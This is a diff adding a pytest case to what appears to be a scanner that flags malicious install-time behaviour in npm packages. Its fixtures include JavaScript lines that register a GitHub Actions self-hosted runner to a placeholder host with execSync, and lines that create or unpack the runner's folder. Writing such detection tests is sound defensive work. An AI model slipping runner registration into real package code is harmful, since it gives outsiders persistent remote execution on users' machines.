@@ -604,3 +604,27 @@ def test_an_installer_command_in_a_variable_runs_once_it_is_used_as_a_command(
     pkg = _copy(tmp_path, "install-hint-message")
     _edit(pkg / "scripts" / "check.js", "  throw new Error(", f"  {use}\n  throw new Error(")
     assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a runner registered: the command itself
+        "require('child_process').execSync('cd ~/actions-runner && ./config.sh --url "
+        "https://github.example.invalid/o/r --token t --name w');",
+        # the runner's own folder made or unpacked, not its log folder
+        "fs.mkdirSync(path.join(require('os').homedir(), 'actions-runner'));",
+        "fs.writeFileSync('/tmp/actions-runner-linux-x64-2.330.0.tar.gz', '');",
+        "fs.writeFileSync(path.join(process.env.HOME, 'actions-runner', '.runner'), '{}');",
+        # _diag further down than a runner's log folder lies is no log path
+        "fs.writeFileSync('/opt/actions-runner/a/b/c/_diag', '');",
+    ],
+)
+def test_runner_log_folders_register_nothing_but_a_runner_does(tmp_path: Path, code: str) -> None:
+    """A CI plugin reading the runner's log folder (``actions-runner/_diag``, at-risk high on
+    @datadog/datadog-ci-plugin-gate 5.25.0) is silent even at install time; the runner's folder
+    made, unpacked or configured in the same install-time file stays high."""
+    pkg = _copy(tmp_path, "ci-runner-logs")
+    assert _found(pkg) == {}
+    _edit(pkg / "lib" / "job-id.js", "module.exports", f"{code}\nmodule.exports")
+    assert _found(pkg).get("GH-PERSIST-SERVICE") == "high"
